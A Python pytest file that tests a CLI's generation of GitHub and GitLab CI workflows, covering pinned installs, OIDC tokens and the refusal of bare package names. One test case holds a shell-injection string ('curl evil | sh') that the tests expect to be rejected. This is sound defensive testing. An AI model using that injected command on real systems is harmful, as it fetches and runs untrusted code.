"""``kliqued ci init github|gitlab``: a CI definition ready to commit. The GitHub workflow
passes actionlint (the ``actionlint`` command of the test extra); both parse as YAML and run
the commands of this CLI with flags it accepts."""

from __future__ import annotations

import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from kliqued.ci import install
from kliqued.ci.workflows import GITHUB_PATH, GITLAB_PATH
from kliqued.cli import build_parser, main

COMMIT = "0123456789abcdef0123456789abcdef01234567"
PINNED = ["--install", f"git+https://git.example.org/platform/klique.git@{COMMIT}"]


def actionlint() -> str:
    found = shutil.which("actionlint", path=str(Path(sys.executable).parent)) or shutil.which(
        "actionlint"
    )
    if found is None:  # pragma: no cover - the test extra installs it
        pytest.fail("actionlint is not installed: pip install -e '.[test]'")
    return found


def kliqued_lines(script: str) -> list[list[str]]:
    """The ``kliqued`` command lines of a shell script (continuations joined)."""
    joined = script.replace("\\\n", " ")
    out = []
    for line in joined.splitlines():
        line = line.strip()
        if line.startswith("kliqued "):
            line = line.split("||")[0].split("#")[0]
            out.append(shlex.split(line.replace('"${live[@]}"', "").replace("$live", "")))
    return out


def test_github_workflow_passes_actionlint(tmp_path, capsys) -> None:
    assert main(["ci", "init", "github", "--repo", str(tmp_path), *PINNED]) == 0
    path = tmp_path / GITHUB_PATH
    done = subprocess.run([actionlint(), "-no-color", str(path)], capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    # Written once; a second init keeps the file unless --force.
    assert main(["ci", "init", "github", "--repo", str(tmp_path), *PINNED]) == 1
    assert "exists; --force replaces it" in capsys.readouterr().err
    assert (
        main(
            [
                "ci",
                "init",
                "github",
                "--repo",
                str(tmp_path),
                "--force",
                *PINNED,
                "--estate-path",
                "clusters/estate",
                "--since",
                "28d",
            ]
        )
        == 0
    )
    text = path.read_text()
    assert '"clusters/estate/**"' in text and '--since "28d"' in text
    assert subprocess.run([actionlint(), str(path)], capture_output=True).returncode == 0


def test_the_workflow_validates_plans_with_the_what_if_comments_and_fails_on_1(tmp_path) -> None:
    main(["ci", "init", "github", "--repo", str(tmp_path), *PINNED])
    wf = YAML(typ="safe").load((tmp_path / GITHUB_PATH).read_text())
    job = wf["jobs"]["plan"]
    # No stored secret (issue 30): the job's own ID token, which kliqued plan asks for.
    assert wf["permissions"]["id-token"] == "write"
    assert "KLIQUE_TOKEN" not in job["env"] and "KLIQUE_PLANNER" not in str(wf)
    assert job["env"]["KLIQUE_AUDIENCE"] == "${{ vars.KLIQUE_AUDIENCE || 'klique' }}"
    script = "\n".join(s.get("run", "") for s in job["steps"])
    commands = kliqued_lines(script)
    assert [c[1] for c in commands] == ["validate", "plan", "ci"]
    assert "--what-if-from" in script and "--against" in script
    parser = build_parser()
    for argv in commands:  # every flag the workflow uses exists
        parser.parse_args(argv[1:])
    last = job["steps"][-1]
    assert "steps.plan.outputs.exit_code == '1'" in last["if"]
    assert "${{" not in last["run"]  # expressions reach scripts through env only
    assert "steps.validate.outcome == 'failure'" in last["if"]


def test_gitlab_job(tmp_path) -> None:
    assert main(["ci", "init", "gitlab", "--repo", str(tmp_path), *PINNED]) == 0
    ci = YAML(typ="safe").load((tmp_path / GITLAB_PATH).read_text())
    job = ci["klique-plan"]
    script = "\n".join(job["script"])
    commands = kliqued_lines(script)
    assert [c[1] for c in commands] == ["validate", "plan", "ci"]
    parser = build_parser()
    for argv in commands:
        parser.parse_args(argv[1:])
    assert job["rules"][0]["if"] == '$CI_PIPELINE_SOURCE == "merge_request_event"'
    assert job["id_tokens"] == {"KLIQUE_ID_TOKEN": {"aud": "klique"}}  # no stored secret


# --- what the job installs: a pinned source, never a bare name (issue 25, item 9) ---------


@pytest.mark.parametrize("forge,path", [("github", GITHUB_PATH), ("gitlab", GITLAB_PATH)])
@pytest.mark.parametrize(
    "bare", ["klique", "klique==0.1.0", "klique>=0.1", "klique[ec2]", "Klique ~= 0.1"]
)
def test_a_bare_package_name_is_refused(tmp_path, capsys, forge, path, bare) -> None:
    """Nobody from the organisation owns ``klique`` on a public index: whoever registers it
    would run code in a job holding the planner token. Refused, nothing written."""
    assert main(["ci", "init", forge, "--repo", str(tmp_path), "--install", bare]) == 2
    err = capsys.readouterr().err
    assert "public index" in err and "git URL at a commit" in err
    assert not (tmp_path / path).exists()


@pytest.mark.parametrize(
    "spec,why",
    [
        ("git+https://git.example.org/platform/klique.git", "names no commit or tag"),
        ("git+https://git.example.org/platform/klique.git@", "empty"),
        ('git+https://x.org/k.git@v1"; curl evil | sh; "', "quote, a space"),
        ("git+ftp://x.org/k.git@v1", "scheme"),
        ("", "empty"),
    ],
)
def test_an_unpinned_or_unsafe_source_is_refused(spec, why) -> None:
    with pytest.raises(install.InstallError, match=why):
        install.parse(spec)


def test_without_install_a_local_kliqued_gives_no_default(tmp_path, capsys) -> None:
    """This checkout's kliqued is an editable install: nothing CI can pin, so --install is
    asked for rather than a name guessed."""
    assert main(["ci", "init", "github", "--repo", str(tmp_path)]) == 2
    assert "--install is needed" in capsys.readouterr().err
    assert not (tmp_path / GITHUB_PATH).exists()


@pytest.mark.parametrize("forge,path", [("github", GITHUB_PATH), ("gitlab", GITLAB_PATH)])
@pytest.mark.parametrize(
    "spec,kind",
    [
        (f"git+https://git.example.org/platform/klique.git@{COMMIT}", "git commit"),
        (f"klique[ec2] @ git+ssh://git@git.example.org/platform/klique.git@{COMMIT}", "git commit"),
        ("tools/klique-0.1.0-py3-none-any.whl", "wheel"),
        ("https://files.example.org/klique-0.1.0-py3-none-any.whl#sha256=" + "a" * 64, "wheel"),
    ],
)
def test_a_pinned_source_is_installed_and_said_so(tmp_path, forge, path, spec, kind) -> None:
    assert main(["ci", "init", forge, "--repo", str(tmp_path), "--install", spec]) == 0
    text = (tmp_path / path).read_text()
    assert f'pip install "{spec}"' in text
    comment = " ".join(
        line.strip().lstrip("# ") for line in text.splitlines() if line.strip().startswith("#")
    )
    assert f"pins ({kind}" in comment and "never a bare package name" in comment
    assert 'pip install "klique"' not in text
    if forge == "github":
        done = subprocess.run(
            [actionlint(), "-no-color", str(tmp_path / path)], capture_output=True, text=True
        )
        assert done.returncode == 0, done.stdout + done.stderr


def test_a_tag_is_accepted_with_a_note_that_it_can_move(tmp_path, capsys) -> None:
    spec = "git+https://git.example.org/platform/klique.git@v0.1.0"
    assert main(["ci", "init", "github", "--repo", str(tmp_path), "--install", spec]) == 0
    assert "can be moved; a commit hash pins exactly" in capsys.readouterr().err


def test_the_default_is_the_commit_or_wheel_this_kliqued_came_from() -> None:
    """pip's PEP 610 record of this kliqued: a git install pins its commit, a wheel its URL
    and hash; an editable or index install gives nothing to pin."""
    git = install.from_direct_url(
        {
            "url": "https://git.example.org/platform/klique.git",
            "vcs_info": {"vcs": "git", "commit_id": COMMIT},
        }
    )
    assert git is not None and git.spec.endswith(f"klique.git@{COMMIT}")
    assert git.kind == "git commit"
    wheel = install.from_direct_url(
        {
            "url": "https://f.example.org/klique-0.1.0-py3-none-any.whl",
            "archive_info": {"hashes": {"sha256": "b" * 64}},
        }
    )
    assert wheel is not None and wheel.spec.endswith(".whl#sha256=" + "b" * 64)
    assert (
        install.from_direct_url({"url": "file:///src/klique", "dir_info": {"editable": True}})
        is None
    )
    assert install.from_direct_url(None) is None


def test_the_weekly_advise_workflow(tmp_path) -> None:
    """``--advise`` (issue 31): a scheduled workflow that passes actionlint and runs
    ``kliqued advise`` with flags it accepts, with the job's own ID token (no stored
    planner secret: issue 30)."""
    from kliqued.ci.workflows import ADVISE_GITHUB_PATH

    assert main(["ci", "init", "github", "--advise", "--repo", str(tmp_path), *PINNED]) == 0
    path = tmp_path / ADVISE_GITHUB_PATH
    done = subprocess.run([actionlint(), "-no-color", str(path)], capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    doc = YAML(typ="safe").load(path.read_text())
    assert doc["on"]["schedule"] == [{"cron": "17 6 * * 1"}]
    assert doc["permissions"]["id-token"] == "write"
    assert "secrets.KLIQUE" not in path.read_text()
    steps = doc["jobs"]["advise"]["steps"]
    script = next(s["run"] for s in steps if s.get("name") == "Advise from the last weeks' demand")
    (line,) = kliqued_lines(script)
    args = build_parser("advise").parse_args(line[1:])
    assert (args.against, args.since, args.patch) == ("$KLIQUE_URL", "14d", "advice.patch")


def test_the_weekly_advise_job_on_gitlab(tmp_path) -> None:
    """``ci init gitlab --advise``: a job for a pipeline schedule, with an ID token for
    Klique, that runs ``kliqued advise`` with flags it accepts and pushes a branch that
    opens a merge request (GitLab's push options) only when there is a patch."""
    from kliqued.ci.workflows import ADVISE_GITLAB_PATH

    assert main(["ci", "init", "gitlab", "--advise", "--repo", str(tmp_path), *PINNED]) == 0
    text = (tmp_path / ADVISE_GITLAB_PATH).read_text()
    job = YAML(typ="safe").load(text)["klique-advise"]
    assert job["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule" && $KLIQUE_ADVISE == "1"'}]
    assert job["id_tokens"] == {"KLIQUE_ID_TOKEN": {"aud": "klique"}}
    script = "\n".join(job["script"])
    (line,) = kliqued_lines(script)
    args = build_parser("advise").parse_args(line[1:])
    assert (args.against, args.since, args.patch) == ("$KLIQUE_URL", "14d", "advice.patch")
    assert 'if [ ! -s advice.patch ]; then echo "no change to propose"; exit 0; fi' in script
    assert "-o merge_request.create" in script and "KLIQUE_BOT_TOKEN" in script
    # the script's shell parses (bash -n), as the runner's sh would run it
    done = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
